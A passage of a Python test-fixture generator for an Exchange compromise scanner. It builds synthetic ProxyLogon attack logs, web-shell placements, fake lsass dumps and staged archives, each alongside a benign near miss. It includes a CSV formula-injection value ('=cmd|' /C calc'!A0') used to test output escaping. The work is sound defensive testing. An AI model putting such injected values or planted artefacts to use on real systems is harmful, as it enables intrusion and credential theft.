    -GenerateRequest -BinaryEncoded writes)."""
    info = der(0x30, der(0x02, b"\x00"), der_name([(OID_CN, 0x0C, subject_cn)]),
               der_rsa_spki(key), der(0xA0))
    return der(0x30, info, *der_sig(key))


def der_cert(cn, sans, key):
    """A self-contained X.509 v3 certificate (structure only; the signature is filler)."""
    issuer = der_name([(OID_C, 0x13, "US"), (OID_O, 0x0C, "Example Corp"),
                       (OID_CN, 0x0C, "Example Corp Issuing CA 01")])
    subject = der_name([(OID_C, 0x13, "US"), (OID_O, 0x0C, "Example Corp"), (OID_CN, 0x0C, cn)])
    validity = der(0x30, der(0x17, b"230105000000Z"), der(0x17, b"250104235959Z"))
    serial = bytearray(hashlib.sha256((key + ":serial").encode()).digest()[:16])
    serial[0] &= 0x7F
    san = der(0x30, *[der(0x82, s.encode()) for s in sans])
    ext = der(0xA3, der(0x30, der(0x30, der_oid(OID_SAN), der(0x04, san))))
    tbs = der(0x30, der(0xA0, der(0x02, b"\x02")), der(0x02, bytes(serial)),
              der(0x30, der_oid(OID_SHA256_RSA), b"\x05\x00"), issuer, validity, subject,
              der_rsa_spki(key), ext)
    return der(0x30, tbs, *der_sig(key))


def app_web_dll(key, names, user_strings, size=4096):
    """A file shaped like an ASP.NET temp-compiled page assembly (App_Web_*.dll): MZ
    header with DOS stub, PE/COFF header for a 32-bit DLL, three section headers, and in
    .text a CLI metadata root ('BSJB', v4.0.30319) followed by a #Strings heap (names,
    ASCII) and a #US heap (user strings, UTF-16LE)."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    dos[2:0x1C] = struct.pack("<13H", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    dos[0x40:0x40 + len(stub)] = stub
    ts = 0x6040A1C3 + int(hashlib.sha256(key.encode()).hexdigest()[:4], 16)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 3, ts, 0, 0, 0xE0, 0x2102)
    opt = bytearray(0xE0)
    opt[0:2] = struct.pack("<H", 0x10B)
    opt[16:20] = struct.pack("<I", 0x2000)           # entry point RVA
    opt[28:32] = struct.pack("<I", 0x10000000)       # image base
    opt[32:40] = struct.pack("<II", 0x2000, 0x200)   # section / file alignment
    opt[68:70] = struct.pack("<H", 3)                # subsystem: Windows console
    opt[70:72] = struct.pack("<H", 0x8540)           # DLL characteristics (ASLR, NX, ...)
    opt[0xD0:0xD8] = struct.pack("<II", 0x2008, 0x48)  # CLI header data directory
    sections = b""
    for i, name in enumerate((b".text", b".rsrc", b".reloc")):
        raw = 0x200 + i * 0x400
        sections += struct.pack("<8sIIIIIIHHI", name, 0x400, 0x2000 + i * 0x2000, 0x400, raw,
                                0, 0, 0, 0, 0x60000020 if i == 0 else 0x40000040)
    head = bytes(dos) + coff + bytes(opt) + sections
    head += b"\x00" * (0x200 - len(head))
    strings = b"\x00" + b"".join(n.encode("ascii") + b"\x00" for n in names)
    us = b"\x00"
    for s in user_strings:
        u = s.encode("utf-16-le") + b"\x00"
        us += bytes([len(u)]) + u
    version = b"v4.0.30319\x00\x00"
    root = (b"BSJB" + struct.pack("<HHII", 1, 1, 0, len(version)) + version +
            struct.pack("<HH", 0, 2))
    root += struct.pack("<II", 0x60, len(strings)) + b"#Strings\x00\x00\x00\x00"
    root += struct.pack("<II", 0x60 + len(strings), len(us)) + b"#US\x00"
    text = b"\x00" * 0x50 + root
    text += b"\x00" * (0x60 - (len(text) - 0x50)) + strings + us
    body = head + text
    assert len(body) < size
    return body + b"\x00" * (size - len(body))


def fake_pdf(key):
    obj = hashlib.sha256(key.encode()).hexdigest()
    return ("%%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            "%% %s\ntrailer\n<< /Root 1 0 R >>\n%%%%EOF\n" % obj).encode("ascii")


# --------------------------------------------------------------------------------------
# A. examples/compromised
# --------------------------------------------------------------------------------------


def gen_compromised():
    root = "examples/compromised"
    b = BUILD_VULN
    key = "comp"

    # --- HttpProxy: benign-only hours ---
    plan = {
        "Autodiscover": ["2021022609", "2021030302", "2021030908"],
        "Ecp": ["2021022610", "2021030909"],
        "Mapi": ["2021022714", "2021030302", "2021030716"],
        "Owa": ["2021022608", "2021030302", "2021030911"],
    }
    lf_only = {("Mapi", "2021022714"), ("Owa", "2021030911")}
    for proto, hours in plan.items():
        for i, hour in enumerate(hours):
            rows = benign_rows(proto, hour, b, "%s:%s:%s" % (key, proto, hour), 3 + i % 3,
                               start_user=i)
            hp_file(root, proto, hour, rows, b, eol=LF if (proto, hour) in lf_only else CRLF)

    # --- Ecp 2021-02-28 .. 03-01: export-tool version scanner among benign rows ---
    rows = benign_rows("Ecp", "2021030111", b, key + ":ecp11", 3)
    rows.append(exporttool_row("2021-03-01T11:26:40.512Z", b, key + ":exporttool"))
    hp_file(root, "Ecp", "2021030111", rows, b)

    # --- Owa 2021-03-06: Microsoft nmap probe among benign rows ---
    rows = benign_rows("Owa", "2021030610", b, key + ":owa0610", 3, start_user=2)
    rows.append(nmap_probe_row("2021-03-06T10:14:22.731Z", b, key + ":nmap"))
    hp_file(root, "Owa", "2021030610", rows, b)

    # --- Ecp 2021-03-03 02h: the ProxyLogon chain ---
    chain = [
        ("2021-03-03T02:11:05.120Z", "autodiscover", 200),
        ("2021-03-03T02:11:41.337Z", "emsmdb", 200),
        ("2021-03-03T02:12:20.904Z", "proxylogon", 241),
        ("2021-03-03T02:14:09.511Z", "getobject", 200),
        ("2021-03-03T02:15:02.276Z", "setobject", 200),
        ("2021-03-03T02:15:39.640Z", "reset", 200),
    ]
    rows = [
        benign_row("2021-03-03T02:03:17.455Z", "Ecp", b, key + ":e1", user=0, kind=0),
        benign_row("2021-03-03T02:07:44.018Z", "Ecp", b, key + ":e2", user=4, kind=1),
        benign_row("2021-03-03T02:21:30.962Z", "Ecp", b, key + ":e3", user=1, kind=2),
        benign_row("2021-03-03T02:48:12.300Z", "Ecp", b, key + ":e4", user=3, kind=0),
    ]
    for ts, stage, status in chain:
        rows.append(ssrf_row(ts, stage, status, b, key + ":" + stage))
    hp_file(root, "Ecp", "2021030302", rows, b)

    # --- Ecp 2021-03-03 05h: one POST /ecp/y.js from the known HAFNIUM IP ---
    rows = benign_rows("Ecp", "2021030305", b, key + ":ecp05", 3, start_user=1)
    rows.append(ssrf_row("2021-03-03T05:42:10.083Z", "autodiscover", 200, b, key + ":hafnium",
                         ip=HAFNIUM_IP, ua=UA_EWS_BAD))
    hp_file(root, "Ecp", "2021030305", rows, b)

    # --- ECP server log ---
    entries = ecp_benign("20210303", b, key + ":ecplog")
    entries.append(ecp_attack("2021-03-03T02:15:02.198Z", b, key + ":ecp-attack"))
    ecp_file(root, "20210303", sorted(entries))

    # --- OAB generator log ---
    entries = oab_benign("20210303", key)
    entries.append(("2021-03-03T02:16:03.455Z", 6120, 22, "Warning", oab_failed(OAB_SHELL_PATH)))
    oab_file(root, "20210303", b, entries)

    # --- Rps_Http ---
    rps_file(root, "2021030302", b, key + ":rps")

    # --- planted web shells: the OAB dump, and a C# process-exec page in owa\auth ---
    write(root + "/inetpub/wwwroot/aspnet_client/discover.aspx", discover_aspx())
    write(root + "/" + OWA_AUTH + "/OutlookJP2.aspx", page(OUTLOOKJP2_SHELL))

    # --- IIS front-end log for the day ---
    entries = iis_benign("2021-03-03", 2021)
    for ts, stage, status in chain:
        entries.append(("2021-03-03 " + ts[11:19], "POST", "/ecp/y.js", "", "", ATTACKER_IP,
                        UA_CHROME87, status, 180))
    entries.append(("2021-03-03 05:42:10", "POST", "/ecp/y.js", "", "", HAFNIUM_IP, UA_EWS_BAD,
                    200, 95))
    entries.append(("2021-03-03 02:18:27", "POST", "/aspnet_client/discover.aspx", "", "",
                    ATTACKER_IP, UA_CHROME87, 200, 412))
    entries.append(("2021-03-03 02:19:05", "POST", "/aspnet_client/discover.aspx", "", "",
                    ATTACKER_IP, UA_CHROME87, 200, 1380))
    entries.append(("2021-03-03 03:02:41", "POST", "/owa/auth/OutlookJP2.aspx", "", "",
                    ATTACKER_IP, UA_CHROME87, 200, 2210))
    entries.append(("2021-03-03 03:04:17", "POST", "/owa/auth/OutlookJP2.aspx", "", "",
                    ATTACKER_IP, UA_CHROME87, 200, 5120))
    iis_file(root, "210303", entries, "2021-03-03 00:03:11")

    # --- lsass dump and staged archive ---
    dump = minidump(LSASS_MODULES)
    write(root + "/Windows/Temp/lsass.dmp", dump)
    write(root + "/ProgramData/it.zip",
          make_zip([("lsass.dmp", minidump(LSASS_MODULES, pad=0))], (2021, 3, 4, 3, 30, 0)))


def exchange_binary(build, name):
    """A PE image whose version resource says build ("15.01.2507.016"), as Exchange's
    ExSetup.exe and front-end DLLs carry it (tests/gen/make_pe.py writes the format)."""
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    import make_pe as mp
    v = tuple(int(x) for x in build.split("."))
    ver = mp.version_info(v, v, [("CompanyName", "Microsoft Corporation"), ("FileVersion", build),
                                 ("OriginalFilename", name), ("ProductName", "Microsoft\u00ae Exchange"),
                                 ("ProductVersion", build)])
    rsrc = mp.resource_section(0x2000, [(mp.RT_VERSION, 1, 0x0409, ver)])
    return mp.pe_image(True, [(b".text", 0x1000, b"\x31\xc0\xc3", mp.CODE),
                              (b".rsrc", 0x2000, rsrc, mp.RDATA)], 1)


# --------------------------------------------------------------------------------------
# B. examples/clean
# --------------------------------------------------------------------------------------


def gen_clean(root, b, y, m):
    """An ordinary server with benign traffic only. examples/exposed: patched to November
    2022 (logs of January 2023); examples/clean: Exchange SE with the newest update exhunt
    knows (logs of September 2026). The dates are the January 2023 ones moved to y-m."""
    key = "clean"

    def D(x):
        return (x.replace("2023-01-", "%d-%s-" % (y, m)).replace("202301", "%d%s" % (y, m))
                .replace("2301", "%02d%s" % (y % 100, m)))
    plan = {
        "Autodiscover": [D("2023010909"), D("2023011014")],
        "Ecp": [D("2023010910"), D("2023011011")],
        "Mapi": [D("2023010914"), D("2023011016")],
        "Owa": [D("2023010908"), D("2023011011")],
    }
    lf_only = {("Mapi", D("2023010914")), ("Owa", D("2023011011"))}
    for proto, hours in plan.items():
        for i, hour in enumerate(hours):
            rows = benign_rows(proto, hour, b, "%s:%s:%s" % (key, proto, hour), 3 + i, year=y,
                               start_user=i)
            if (proto, hour) == ("Ecp", D("2023011011")):
                # legitimate server-to-server routing: ServerInfo~ with no path
                rows.append(hp_row(D("2023-01-10T11:30:07.614Z"), "Ecp", b, key + ":s2s",
                                   UrlStem="/ecp/", Method="GET", AuthenticationType="Negotiate",
                                   IsAuthenticated="true", AuthenticatedUser="CORP\\EXCH02$",
                                   AnchorMailbox="ServerInfo~EXCH02.corp.example.com",
                                   UserAgent="Exchange Server", ClientIpAddress="10.10.0.26",
                                   RoutingType="ServerInfo", RoutingHint="Url",
                                   TargetServer="EXCH02.corp.example.com"))
            hp_file(root, proto, hour, rows, b, eol=LF if (proto, hour) in lf_only else CRLF)

    entries = ecp_benign(D("20230110"), b, key + ":ecplog")
    entries.append(ecp_admin_oab(D("2023-01-10T14:02:33.410Z"), b, key + ":ecp-admin-oab"))
    ecp_file(root, D("20230110"), sorted(entries))

    oab_file(root, D("20230110"), b, oab_benign(D("20230110"), key))
    rps_file(root, D("2023011010"), b, key + ":rps", year=y)
    iis_file(root, D("230110"), iis_benign(D("2023-01-10"), y), D("2023-01-10 00:03:11"))

    # --- the installed build: ExSetup.exe and a front-end binary ---
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary(b, "ExSetup.exe"))
    write(root + "/" + FRONTEND + "/bin/Microsoft.Exchange.HttpProxy.Common.dll",
          exchange_binary(b, "Microsoft.Exchange.HttpProxy.Common.dll"))

    # --- an ordinary intranet application (must stay clean) ---
    app = root + "/" + WWWROOT + "/intranet"
    write(app + "/web.config", page(INTRANET_WEB_CONFIG))
    write(app + "/Default.aspx", page(INTRANET_DEFAULT_ASPX))
    write(app + "/Default.aspx.cs", page(INTRANET_DEFAULT_CS))
    write(app + "/Upload.aspx", page(INTRANET_UPLOAD_ASPX))
    write(app + "/Upload.aspx.cs", page(INTRANET_UPLOAD_CS))
    write(app + "/Rooms.ashx", page(INTRANET_ROOMS_ASHX))


# --------------------------------------------------------------------------------------
# C. end-to-end cases
# --------------------------------------------------------------------------------------

E2E = "tests/e2e"
CASES = []  # names, in order of definition (used for cleaning and the summary)
DEFAULT_ARGS = "scan -f jsonl input"


def case(name, args=DEFAULT_ARGS):
    CASES.append(name)
    write("%s/%s/args" % (E2E, name), args + "\n")
    return "%s/%s/input" % (E2E, name)


def t(hms):
    return "2021-03-03T" + hms + "Z"


def gen_e2e():
    P = BUILD_CURRENT
    H = "2021030302"

    def bn(proto, k, n=2, user=0):
        return benign_rows(proto, H, P, "e2e:" + k, n, start_user=user)

    # --- ProxyLogon stages -----------------------------------------------------------
    root = case("pl-autodiscover-only")
    rows = bn("Autodiscover", "pl-ad", 3)
    for i, ts in enumerate([t("02:11:05.120"), t("02:11:06.804")]):
        rows.append(ssrf_row(ts, "autodiscover", 200, P, "pl-ad:%d" % i, protocol="Autodiscover",
                             stem="/autodiscover/autodiscover.xml"))
    hp_file(root, "Autodiscover", H, rows, P)

    root = case("pl-ssrf-backend")
    rows = bn("Ews", "pl-ews", 2)
    rows.append(ssrf_row(t("02:12:44.217"), "ews", 500, P, "pl-ews", protocol="Ews",
                         stem="/ews/exchange.asmx"))
    hp_file(root, "Ews", H, rows, P)

    def ecp_case(name, stages, nbenign=2):
        root = case(name)
        rows = bn("Ecp", name, nbenign)
        for ts, stage, status in stages:
            rows.append(ssrf_row(t(ts), stage, status, P, name + ":" + stage + ts))
        hp_file(root, "Ecp", H, rows, P)
        return root

    ecp_case("pl-emsmdb", [("02:11:41.337", "emsmdb", 200)])
    ecp_case("pl-proxylogon-ecp", [("02:12:20.904", "proxylogon", 241)])
    ecp_case("pl-ddiservice", [("02:14:09.511", "getobject", 200),
                               ("02:15:02.276", "setobject", 200)])
    ecp_case("pl-reset-200", [("02:15:39.640", "reset", 200)])
    ecp_case("pl-reset-500-near", [("02:15:39.640", "reset", 500)])

    # --- noise ------------------------------------------------------------------------
    root = case("noise-localhost-probe")
    rows = bn("Owa", "noise-nmap", 3)
    rows.append(nmap_probe_row(t("02:14:22.731"), P, "noise-nmap"))
    hp_file(root, "Owa", H, rows, P)

    root = case("noise-exporttool")
    hp_file(root, "Ecp", H, [exporttool_row(t("02:26:40.512"), P, "noise-export")], P)

    # --- near misses in HttpProxy -----------------------------------------------------
    root = case("near-benign-httpproxy")
    rows = bn("Ecp", "near-hp", 3)
    rows.append(hp_row(t("02:30:07.614"), "Ecp", P, "near-hp:s2s", UrlStem="/ecp/", Method="GET",
                       AuthenticationType="Negotiate", IsAuthenticated="true",
                       AuthenticatedUser="CORP\\EXCH02$",
                       AnchorMailbox="ServerInfo~EXCH02.corp.example.com",
                       UserAgent="Exchange Server", ClientIpAddress="10.10.0.26",
                       RoutingType="ServerInfo", RoutingHint="Url",
                       TargetServer="EXCH02.corp.example.com"))
    rows.append(hp_row(t("02:31:55.090"), "Ecp", P, "near-hp:ua", UrlStem="/ecp/", Method="GET",
                       AuthenticationType="FBA", IsAuthenticated="false", AuthenticatedUser="",
                       AnchorMailbox="Smtp~bob@corp.example.com",
                       UserAgent="Mozilla/5.0 (compatible, ServerInfo~a]@" + FQDN +
                       ":444/mapi/emsmdb/?#; \"scanner\")",
                       ClientIpAddress="10.10.1.34", HttpStatus=302, BackEndStatus=302,
                       RoutingType="Smtp", RoutingHint="Cookie"))
    rows.append(hp_row(t("02:33:12.411"), "Ecp", P, "near-hp:ews", UrlStem="/ecp/", Method="GET",
                       AuthenticationType="Negotiate", IsAuthenticated="true",
                       AuthenticatedUser="carol@corp.example.com",
                       AnchorMailbox="Smtp~carol@corp.example.com", UserAgent=UA_EWS_GOOD,
                       ClientIpAddress="10.10.2.17", RoutingType="Smtp", RoutingHint="Cookie"))
    hp_file(root, "Ecp", H, rows, P)

    # --- ECP server log -----------------------------------------------------------------
    root = case("ecp-set-vdir-script")
    e = ecp_benign("20210303", P, "ecp-hit")
    e.append(ecp_attack(t("02:15:02.198"), P, "ecp-hit:attack"))
    ecp_file(root, "20210303", sorted(e))

    root = case("ecp-set-vdir-benign")
    e = ecp_benign("20210303", P, "ecp-near")
    e.append(ecp_admin_oab(t("02:15:02.198"), P, "ecp-near:admin"))
    ecp_file(root, "20210303", sorted(e))

    # --- OAB generator ------------------------------------------------------------------
    root = case("oab-outside")
    e = [x for x in oab_benign("20210303", "oab-hit") if "Download failed" not in x[4]]
    e.append((t("02:16:03.455"), 6120, 22, "Warning", oab_failed(OAB_SHELL_PATH)))
    oab_file(root, "20210303", P, e)

    root = case("oab-temp-near")
    oab_file(root, "20210303", P, oab_benign("20210303", "oab-near"))

    # --- IOC IP / UA --------------------------------------------------------------------
    root = case("ioc-ip")
    rows = bn("Owa", "ioc-ip", 2)
    rows.append(hp_row(t("02:40:18.733"), "Owa", P, "ioc-ip:row", UrlStem="/owa/auth/logon.aspx",
                       Method="GET", UrlQuery="?url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
                       AuthenticationType="", IsAuthenticated="false",
                       UserAgent=UA_FIREFOX_2021, ClientIpAddress=HAFNIUM_IP, RoutingHint="Url"))
    hp_file(root, "Owa", H, rows, P)

    root = case("ioc-ip-near")
    rows = bn("Owa", "ioc-ip-near", 2)
    rows.append(hp_row(t("02:40:18.733"), "Owa", P, "ioc-ip-near:row",
                       RequestId="104.140.114.1105-9c1e-4a7b-8f00-2d6e1b3c5a77",
                       UrlStem="/owa/auth/logon.aspx", Method="GET",
                       UrlQuery="?url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
                       AuthenticationType="", IsAuthenticated="false",
                       UserAgent=UA_FIREFOX_2021, ClientIpAddress="104.140.114.11",
                       RoutingHint="Url"))
    hp_file(root, "Owa", H, rows, P)

    def ua_case(name, ua, method, stem, status):
        root = case(name)
        rows = bn("Owa", name, 2)
        rows.append(hp_row(t("02:44:51.006"), "Owa", P, name + ":row", UrlStem=stem, Method=method,
                           AuthenticationType="", IsAuthenticated="false", UserAgent=ua,
                           ClientIpAddress="198.51.100.23", HttpStatus=status,
                           BackEndStatus=status, RoutingHint="Url"))
        hp_file(root, "Owa", H, rows, P)

    ua_case("ioc-ua", UA_ANTSWORD, "POST", "/owa/auth.owa", 200)
    ua_case("ioc-ua-crawler-get-near", UA_GOOGLEBOT, "GET", "/owa/auth/logon.aspx", 200)
    ua_case("ioc-ua-crawler-post", UA_GOOGLEBOT, "POST",
            "/owa/auth/Current/themes/resources/logon.css", 200)
    # a published name inside a longer user agent is not that user agent
    ua_case("ioc-ua-embedded-near", UA_TEAMS_EWS, "POST", "/EWS/Exchange.asmx", 200)

    # --- file artefacts -----------------------------------------------------------------
    write(case("art-lsass-dump") + "/Windows/Temp/lsass.dmp", minidump(LSASS_MODULES))
    write(case("art-lsass-renamed") + "/ProgramData/debug/m.bin", minidump(LSASS_MODULES))
    write(case("art-dump-near") + "/Windows/Temp/svc.dmp", minidump(SVCHOST_MODULES))
    write(case("art-lsass-name-only") + "/root/lsass.dmp",
          "Placeholder left by the backup job; the real dump was deleted on 2021-03-05.\r\n")
    write(case("art-archive") + "/ProgramData/staging/out.7z", make_7z_like())
    write(case("art-archive-near") + "/Users/alice/Documents/photos.zip",
          make_zip([("IMG_0412.jpg", fake_jpeg("img412")), ("IMG_0413.jpg", fake_jpeg("img413"))],
                   (2021, 2, 14, 16, 5, 42)))

    # --- exposure -----------------------------------------------------------------------
    root = case("exposure-unpatched")
    hp_file(root, "Owa", H, benign_rows("Owa", H, BUILD_VULN, "exp-vuln", 3), BUILD_VULN)

    root = case("exposure-patched-near")
    hp_file(root, "Owa", H, benign_rows("Owa", H, P, "exp-patched", 3), P)

    root = case("exposure-rowversion")
    rows = [benign_row(t("02:%02d:%02d.%03d" % (5 + 9 * i, 13 * i % 60, 111 * i)), "Owa",
                       BUILD_2019_CU8, "exp-row:%d" % i, user=i, kind=i) for i in range(3)]
    rows.append(benign_row(t("02:58:40.905"), "Owa", "15.02.0792.010", "exp-row:last", user=3))
    hp_file(root, "Owa", H, rows, BUILD_2019_CU8)

    # the build on disk: ExSetup.exe's file version (and the front end's binaries)
    # judged before the logs' build
    root = case("exposure-exsetup")  # logs Oct22SU, ExSetup.exe Nov22SU: the newer one judged
    hp_file(root, "Owa", H, benign_rows("Owa", H, BUILD_2016_OCT22, "exp-setup", 3), BUILD_2016_OCT22)
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary(BUILD_PATCHED, "ExSetup.exe"))
    write(root + "/" + FRONTEND + "/bin/Microsoft.Exchange.HttpProxy.Common.dll",
          exchange_binary(BUILD_PATCHED, "Microsoft.Exchange.HttpProxy.Common.dll"))
    root = case("exposure-exsetup-only")  # no logs: ExSetup.exe alone (SE May26HU)
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary("15.02.2562.041", "ExSetup.exe"))
    root = case("exposure-partial")  # ExSetup.exe Aug26SU, the front end still Nov22SU
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary("15.01.2507.072", "ExSetup.exe"))
    for dll in ("Microsoft.Exchange.HttpProxy.Common.dll", "Microsoft.Exchange.FrontEndHttpProxy.dll"):
        write(root + "/" + FRONTEND + "/bin/" + dll, exchange_binary(BUILD_PATCHED, dll))
    write(root + "/" + FRONTEND + "/bin/ThirdParty.Helper.dll", b"MZ not a real image")
    root = case("exposure-partial-near")  # every binary at the same build
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary(BUILD_CURRENT, "ExSetup.exe"))
    write(root + "/" + FRONTEND + "/bin/Microsoft.Exchange.HttpProxy.Common.dll",
          exchange_binary(BUILD_CURRENT, "Microsoft.Exchange.HttpProxy.Common.dll"))
    root = case("exposure-exsetup-damaged")  # a cut ExSetup.exe: an error; the logs' build judged
    hp_file(root, "Owa", H, benign_rows("Owa", H, P, "exp-dmg", 3), P)
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary(BUILD_PATCHED, "ExSetup.exe")[:700])
    root = case("exposure-newer")  # a build past the catalogue: not judged vulnerable
    hp_file(root, "Owa", H, benign_rows("Owa", H, "15.02.2562.099", "exp-newer", 3), "15.02.2562.099")
    root = case("exposure-eol-2013")  # Exchange 2013 CU23 with its last update
    hp_file(root, "Owa", H, benign_rows("Owa", H, "15.00.1497.048", "exp-2013", 3), "15.00.1497.048")

    # mitigations in force (the shapes of tests/fixtures/mitigation, written for the
    # mitigation reader's own tests)
    def mit(name):
        return (REPO / "tests/fixtures/mitigation" / name).read_bytes()
    root = case("exposure-mitigated")  # CU18 RTM behind the March 2021 cookie rules
    hp_file(root, "Owa", H, benign_rows("Owa", H, BUILD_VULN, "exp-mit", 3), BUILD_VULN)
    write(root + "/" + WWWROOT + "/web.config", mit("eomt-proxylogon.web.config"))
    root = case("exposure-mitigated-bypass")  # Oct22SU behind the first ProxyNotShell rule
    hp_file(root, "Owa", H, benign_rows("Owa", H, BUILD_2016_OCT22, "exp-byp", 3), BUILD_2016_OCT22)
    write(root + "/Windows/System32/inetsrv/config/applicationHost.config",
          mit("first-proxynotshell.applicationHost.config"))
    root = case("exposure-mitigated-em")  # SE May26HU with the EM service's OWA mitigation
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary("15.02.2562.041", "ExSetup.exe"))
    write(root + "/" + LOGS + "/MitigationService/MitigationService_20260515.log", mit("em-applied.log"))
    root = case("exposure-mitigated-em-near")  # the same, but the mitigation failed
    write(root + "/" + V15 + "/Bin/ExSetup.exe", exchange_binary("15.02.2562.041", "ExSetup.exe"))
    write(root + "/" + LOGS + "/MitigationService/MitigationService_20260515.log", mit("em-removed.log"))

    # --- CSV quirks -----------------------------------------------------------------------
    root = case("csv-quirks")
    # file 1: no BOM, LF, 2013-style header subset in another order, a #Version line in the
    # middle of the data, and an emsmdb SSRF row whose AnchorMailbox is quoted although it
    # need not be.
    hour = H
    r1 = bn("Ecp", "quirk1a", 2)
    r1[0]["DateTime"], r1[1]["DateTime"] = t("02:03:10.100"), t("02:07:55.230")
    r2 = bn("Ecp", "quirk1b", 1, user=2)
    r2[0]["DateTime"] = t("02:50:00.500")
    atk = ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "quirk1:atk")
    f13 = HP_FIELDS_2013
    lines = hp_text_lines(r1, P, hour, fields=f13)
    a_idx = f13.index("AnchorMailbox")
    vals = [csv_field(atk[f]) for f in f13]
    vals[a_idx] = '"' + atk["AnchorMailbox"] + '"'
    lines.append(",".join(vals))
    lines.append("#Version: " + P)
    lines += [csv_line(row[f] for f in f13) for row in r2]
    write("%s/%s/HttpProxy/Ecp/HttpProxy_%s-1.LOG" % (root, LOGS, hour),
          join_lines(lines, eol=LF, bom=False))
    # file 2: full header, BOM, CRLF, last line cut inside ClientIpAddress (after
    # AnchorMailbox and UserAgent), no newline at the end.
    hour2 = "2021030303"
    rows = benign_rows("Ecp", hour2, P, "e2e:quirk2", 3)
    lines = hp_text_lines(rows, P, hour2)
    cut = ssrf_row("2021-03-03T03:59:58.871Z", "emsmdb", 200, P, "quirk2:cut")
    full = csv_line(cut[f] for f in HP_FIELDS)
    head = csv_line(cut[f] for f in HP_FIELDS[:HP_FIELDS.index("ClientIpAddress")])
    truncated = head + "," + cut["ClientIpAddress"][:8]
    assert full.startswith(truncated)
    lines.append(truncated)
    write("%s/%s/HttpProxy/Ecp/HttpProxy_%s-1.LOG" % (root, LOGS, hour2),
          join_lines(lines, final_eol=False))

    # --- locations ----------------------------------------------------------------------
    root = case("renamed-log")
    rows = bn("Ecp", "renamed", 2)
    rows.append(ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "renamed:atk"))
    write(root + "/Users/admin/Desktop/copy_of_log.txt", join_lines(hp_text_lines(rows, P, H)))

    root = case("case-insensitive")
    rows = bn("Ecp", "case", 2)
    rows.append(ssrf_row(t("02:15:02.276"), "setobject", 200, P, "case:atk"))
    write(root + "/program files/MICROSOFT/exchange server/v15/LOGGING/httpproxy/ECP/"
          "httpproxy_2021030302-1.log", join_lines(hp_text_lines(rows, P, H)))

    root = case("single-file", "scan -f jsonl input/HttpProxy_2021030302-1.LOG")
    rows = bn("Ecp", "single", 2)
    rows.append(ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "single:atk"))
    write(root + "/HttpProxy_2021030302-1.LOG", join_lines(hp_text_lines(rows, P, H)))

    root = case("since-until",
                "scan -f jsonl --since 2021-03-03T02:12:00Z --until 2021-03-03T02:14:00Z input")
    rows = bn("Ecp", "since", 2)
    for ts in ("02:11:41.337", "02:13:41.337", "02:15:41.337"):
        rows.append(ssrf_row(t(ts), "emsmdb", 200, P, "since:" + ts))
    hp_file(root, "Ecp", H, rows, P)

    # --- output formats -----------------------------------------------------------------
    src = REPO / E2E / "pl-emsmdb" / "input"
    root = case("format-text", "scan -f text --color never input")
    for p in sorted(src.rglob("*")):
        if p.is_file():
            write(root + "/" + p.relative_to(src).as_posix(), p.read_bytes())

    root = case("format-csv", "scan -f csv input")
    rows = bn("Ecp", "fmtcsv", 1)
    rows.append(ssrf_row(t("02:11:41.337"), "emsmdb", 200, P, "fmtcsv:atk",
                         ua="=cmd|' /C calc'!A0"))
    hp_file(root, "Ecp", H, rows, P)


# Files next to args in a case folder (not under input/), e.g. --ioc lists. The generator
# owns exactly these, and deletes them before a run like the inputs.
E2E_EXTRA = {
    "ioc-hash-custom": ["iocs.txt"],
    "ioc-mstic-csv": ["mstic.csv"],
    "ioc-ip-list": ["ips.txt"],
}


def case_file(name, fname, data):
    assert fname in E2E_EXTRA.get(name, []), "add %s/%s to E2E_EXTRA" % (name, fname)
    return write("%s/%s/%s" % (E2E, name, fname), data)


def gen_e2e_files():
    """Cases about files on disk: web shells, drops, locations, IOC lists, archives."""
    P = BUILD_CURRENT
    H = "2021030302"

    # --- web shells by content, each with a near miss ---------------------------------
    write(case("ws-eval-jscript") + "/" + OWA_AUTH + "/errorFS2.aspx", JSCRIPT_ITEM_SHELL)
    write(case("ws-eval-vbscript") + "/" + WWWROOT + "/app/a.asp", VBSCRIPT_EXEC_SHELL)
    write(case("ws-eval-near") + "/" + WWWROOT + "/app/people.aspx", page(EVAL_NEAR_PAGE))

    write(case("ws-process") + "/" + ASPNET_CLIENT + "/system_web/syscheck.aspx",
          page(PROCESS_FORM_SHELL))
    write(case("ws-process-near") + "/" + WWWROOT + "/admin/restart-iis.aspx",
          page(PROCESS_NEAR_PAGE))

    write(case("ws-load") + "/" + OWA_AUTH + "/Current/themes/resources/lgnfooter.aspx",
          page(ASSEMBLY_LOAD_SHELL))
    write(case("ws-load-near") + "/" + WWWROOT + "/app/components.aspx",
          page(ASSEMBLY_LOAD_NEAR_PAGE))

    write(case("ws-upload") + "/" + FRONTEND + "/ews/stat.aspx", page(UPLOAD_SHELL))
    write(case("ws-upload-near") + "/" + WWWROOT + "/hr/upload.aspx", page(UPLOAD_NEAR_PAGE))

    # same folder and name for the hit and the near miss: only server vs client differs
    write(case("ws-obfuscated") + "/" + WWWROOT + "/app/status.aspx", page(OBFUSCATED_SHELL))
    write(case("ws-obfuscated-near") + "/" + WWWROOT + "/app/status.aspx",
          page(OBFUSCATED_NEAR_PAGE))

    write(case("ws-utf16") + "/" + WWWROOT + "/app/health.aspx",
